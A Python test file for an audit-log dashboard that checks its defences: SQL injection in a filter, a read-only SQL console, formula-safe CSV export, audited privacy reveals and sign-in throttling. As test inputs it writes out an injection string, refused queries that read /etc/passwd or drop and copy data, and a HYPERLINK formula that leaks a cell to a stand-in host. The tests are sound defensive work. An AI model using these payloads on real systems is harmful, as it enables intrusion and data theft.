    # an injection string as the tenant filter exports nothing
    at.text_input(key="export_tenant").set_value("x' OR '1'='1").run()
    at.button(key="export_build").click().run()
    assert not at.error, [e.value for e in at.error]
    assert at.session_state["export_result"]["summary"]["rows"] == 0


# ----------------------------------------------------------------------------- SQL console

def test_sql_console_is_read_only(app_env, tmp_path):
    demo = app_env
    target = tmp_path / "out.csv"
    at = login_as("auditor")
    goto(at, "SQL")
    refused = [
        "DROP VIEW events",
        "CREATE TABLE x AS SELECT 1",
        "SELECT 1; DROP VIEW events",
        f"COPY (SELECT * FROM events) TO '{target}'",
        "SELECT * FROM read_text('/etc/passwd')",
        f"SELECT * FROM delta_scan('{demo['lake'].table_uri('ledger')}')",
        "SELECT * FROM auditlake_catalog",
        "ATTACH '/tmp/x.db' AS x",
        "INSTALL httpfs",
        "SET enable_external_access = true",
        "SELECT subject_pii_sealed FROM events",
    ]
    for sql in refused:
        at.text_area(key="sql_text").set_value(sql).run()
        at.button(key="sql_run").click().run()
        assert any("did not run" in e.value for e in at.error), sql
        assert not at.exception
    at.text_area(key="sql_text").set_value(
        "WITH t AS (SELECT event_type FROM events) SELECT event_type, count(*) AS n FROM t GROUP BY 1").run()
    at.button(key="sql_run").click().run()
    assert int(table(at, "sql_table")["n"].sum()) == ledger_count(demo)
    assert not target.exists()


def test_console_csv_download_never_starts_a_cell_with_a_formula():
    import pandas as pd

    from dashboards import core

    df = pd.DataFrame({"tenant_id": ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1", "-2", "@x", "t1", None],
                       "n": [1, -2, 3, 4, 5, 6]})
    lines = core.spreadsheet_safe_csv(df).splitlines()
    assert lines[1].startswith('"\'=HYPERLINK(') and lines[2:5] == ["'+1,-2", "'-2,3", "'@x,4"]
    assert lines[5:] == ["t1,5", ",6"]  # plain text and numbers as they are


# ----------------------------------------------------------------------------- privacy officer

def test_privacy_officer_reveal_needs_a_reason_and_is_audited(app_env, monkeypatch):
    """The page's wiring, with a stand-in reveal_subject that records its calls."""
    calls = []

    def fake_reveal(lake, subject_id, reason, actor):
        calls.append((lake.uri, subject_id, reason, actor))
        return [{"event_id": "e1", "phone": "+15550000000"}]

    from auditlake import privacy

    fake = types.ModuleType("auditlake.privacy")
    fake.reveal_subject = fake_reveal
    fake.MIN_REASON, fake.visible_length = privacy.MIN_REASON, privacy.visible_length
    monkeypatch.setitem(sys.modules, "auditlake.privacy", fake)
    demo = app_env
    ev = sample_event(demo["lake"])
    at = login_as("privacy_officer")
    open_event(at, ev["event_id"])
    at.button(key="event_reveal").click().run()
    assert at.radio(key="page").value == "Privacy"
    assert at.text_input(key="reveal_subject").value == ev["subject_id"]
    assert at.button(key="reveal_go").disabled
    at.text_area(key="reveal_reason").set_value("short").run()
    assert at.button(key="reveal_go").disabled and not calls
    at.text_area(key="reveal_reason").set_value("DSAR ticket 4711: subject access request").run()
    at.button(key="reveal_go").click().run()
    assert calls == [(demo["lake"].uri, ev["subject_id"], "DSAR ticket 4711: subject access request", "pia")]
    assert "+15550000000" in all_text(at)
    at.button(key="reveal_hide").click().run()
    assert "+15550000000" not in all_text(at)


def test_privacy_officer_real_reveal(tiny):
    pytest.importorskip("auditlake.privacy")
    evs = tiny["events"]
    lake = tiny["lake"]
    before = lake.delta("ledger").to_pyarrow_dataset().count_rows()
    at = login("pia")
    goto(at, "Privacy")
    at.text_input(key="reveal_subject").set_value(evs[0]["subject"]["id"])
    at.text_area(key="reveal_reason").set_value("DSAR ticket 4711: subject access request").run()
    at.button(key="reveal_go").click().run()
    assert not at.error, [e.value for e in at.error]
    assert evs[0]["subject"]["email"] in all_text(at)
    # The reveal itself is an audit event in the ledger, naming the officer.
    import duckdb

    from auditlake.catalog import delta_extension_path

    con = duckdb.connect()
    con.execute(f"LOAD '{delta_extension_path()}'")
    rows = con.execute(f"SELECT actor_id, data FROM delta_scan('{lake.table_uri('ledger')}') WHERE seq >= ? "
                       "AND event_type = 'data.exported'", [before]).fetchall()
    assert rows and rows[0][0] == "pia" and "DSAR ticket 4711" in rows[0][1]


# ----------------------------------------------------------------------------- admin

def test_admin_page_lists_users_without_hashes(app_env):
    at = login_as("admin")
    goto(at, "Admin")
    users = table(at, "adm_users")
    assert set(users["user"]) == set(PASSWORDS) and "password" not in users.columns
    assert "scrypt$" not in all_text(at)


def test_single_sign_on_is_offered_where_configured(app_env):
    at = new_app()
    at.run()
    assert not [b for b in at.button if b.key == "sso"]
    at = new_app()
    at.secrets["auth"] = {"redirect_uri": "http://127.0.0.1:8501/oauth2callback", "cookie_secret": "test-secret",
                          "client_id": "explorer", "client_secret": "s", "server_metadata_url":
                          "http://127.0.0.1:9/.well-known/openid-configuration"}
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert [b for b in at.button if b.key == "sso"]
    assert at.text_input(key="login_user")  # local users still work beside SSO


def test_parallel_sign_in_guesses_for_one_name_are_no_faster_than_one_session(monkeypatch):
    """Each session's guess used to read the name's failures before any was counted: eight
    at once were all undelayed. Attempts now count as they start, and past three failures one
    before the name's wait is over is refused without a look at the password; nobody queues
    (a sleep under a lock let a guesser hold the real user back)."""
    import threading

    from dashboards import core

    core._sign_in_guard.clear()
    checked: list[str] = []
    clock = [1000.0]
    monkeypatch.setattr(core, "users", lambda: {"users": {}})
    monkeypatch.setattr(core, "authenticate", lambda users, name, password: checked.append(password) or (
        "admin" if password == "right" else None))
    monkeypatch.setattr(core.time, "monotonic", lambda: clock[0])
    threads = [threading.Thread(target=core.sign_in, args=("Ann", f"guess-{i}")) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(checked) == 4  # three free, the fourth starts the wait, four refused unchecked
    assert core.sign_in("ann", "right") is None and len(checked) == 4  # within the wait: not even looked at
    clock[0] += 1.0
    assert core.sign_in("ann", "right") == "admin"  # after it: the right password works, and clears the count
    assert [core.sign_in("ann", "x") for _ in range(3)] == [None] * 3 and len(checked) == 8
    # A huge user name is refused before it costs anything, and names are kept by their hash only.
    assert core.sign_in("x" * 10_000_000, "guess") is None
    _, names = core._sign_in_guard()
    assert len(names) == 1 and all(len(k) == 32 for k in names)
    core._sign_in_guard.clear()
